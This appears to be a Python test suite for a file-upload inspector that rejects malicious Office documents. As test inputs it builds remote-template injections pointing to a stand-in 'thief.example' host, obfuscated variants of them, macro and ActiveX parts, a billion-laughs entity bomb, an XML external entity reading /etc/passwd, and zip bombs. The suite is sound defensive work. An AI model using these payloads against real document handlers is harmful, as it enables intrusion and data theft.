"""Office Open XML documents: active content, remote content and archives that grow."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from core.media.file_types import DOCX, XLSX, FileInfo, UnacceptableFile, UploadRejectionReason
from core.media.inspection import inspect_file
from tests.factories.files import office

ACTIVE, TOO_LARGE = UploadRejectionReason.ACTIVE_CONTENT, UploadRejectionReason.TOO_LARGE
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REMOTE = "https://thief.example/template.dotm"


def rejection_reason(file: bytes) -> UploadRejectionReason:
    with pytest.raises(UnacceptableFile) as unfit:
        inspect_file(file)
    return unfit.value.rejection_reason


def relationships(kind: str, mode: str = 'TargetMode="External"', head: str = "") -> str:
    link = f'<Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" Target="{REMOTE}" {mode}/>'
    return f'{head}<Relationships xmlns="{RELATIONSHIPS}">{link}</Relationships>'


@pytest.mark.parametrize("type", [DOCX, XLSX])
@pytest.mark.parametrize(
    "kind", ["attachedTemplate", "frame", "image", "oleObject", "externalLinkPath", "subDocument"]
)
def test_remote_content_is_rejected(type: str, kind: str) -> None:
    name = "word/_rels/settings.xml.rels"
    assert rejection_reason(office(type, **{name: relationships(kind)})) is ACTIVE


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("WORD/_RELS/SETTINGS.XML.RELS", relationships("attachedTemplate")),
        ("word/_rels/a.rels", relationships("frame", mode='TargetMode="Ext&#101;rnal"')),
        ("word/_rels/a.rels", relationships("frame", mode="TargetMode='External'")),
        ("word/_rels/a.rels", relationships("frame").encode("utf-16")),
    ],
    ids=["upper case", "character reference", "other quotes", "other encoding"],
)
def test_hidden_remote_content_is_rejected(name: str, content: str | bytes) -> None:
    assert rejection_reason(office(DOCX, **{name: content})) is ACTIVE


@pytest.mark.parametrize(
    ("kind", "mode"), [("hyperlink", 'TargetMode="External"'), ("image", ""), ("styles", "")]
)
def test_links_and_own_parts_are_accepted(kind: str, mode: str) -> None:
    file = office(DOCX, **{"word/_rels/document.xml.rels": relationships(kind, mode)})
    assert inspect_file(file) == FileInfo(DOCX)


@pytest.mark.parametrize(
    "type",
    [
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-office.activeX+xml",
        "application/vnd.ms-excel.macrosheet+xml",
        "application/vnd.openxmlformats-officedocument.oleObject",
    ],
)
def test_active_parts_are_rejected(type: str) -> None:
    types = (
        f'<Types><Default Extension="bin" ContentType="{type}"/>'
        f'<Override PartName="/main.xml" ContentType="{DOCX}.main+xml"/></Types>'
    )
    assert rejection_reason(office(DOCX, **{"[Content_Types].xml": types})) is ACTIVE


def test_macros_are_rejected_by_their_name() -> None:
    assert rejection_reason(office(DOCX, **{"word/vbaProject.bin": b"macro"})) is ACTIVE


def test_an_entity_bomb_is_refused() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
    file = office(DOCX, **{"word/_rels/a.rels": relationships("styles", "", head)})
    assert rejection_reason(file) is UploadRejectionReason.DAMAGED


def test_an_external_entity_is_not_read() -> None:
    head = '<!DOCTYPE x [<!ENTITY passwords SYSTEM "file:///etc/passwd">]>'
    file = office(DOCX, **{"word/_rels/a.rels": relationships("styles", "", head)})
    assert rejection_reason(file) is UploadRejectionReason.DAMAGED


def test_a_dense_archive_is_refused() -> None:
    """Twenty megabytes of zeros in twenty kilobytes."""
    assert rejection_reason(office(DOCX, bomb=bytes(20 * 1024 * 1024))) is TOO_LARGE
    repetitive = b"".join(b"<c r='A%d'><v>0</v></c>" % n for n in range(600_000))
    assert inspect_file(office(XLSX, sheet=repetitive)) == FileInfo(XLSX)


def test_too_many_entries_are_refused() -> None:
    assert rejection_reason(office(DOCX, **{f"{n}": "" for n in range(10_001)})) is TOO_LARGE


def test_two_entries_of_one_name_are_refused() -> None:
    file = BytesIO(office(DOCX))
    with ZipFile(file, "a", ZIP_DEFLATED) as archive:
        archive.writestr("MAIN.xml", "<other/>")
    assert rejection_reason(file.getvalue()) is UploadRejectionReason.AMBIGUOUS


def test_a_size_that_lies_is_damaged() -> None:
    file = office(DOCX, part=b"x" * 1000)
    shorter = file.replace((1000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert shorter != file
    assert rejection_reason(shorter) is UploadRejectionReason.DAMAGED
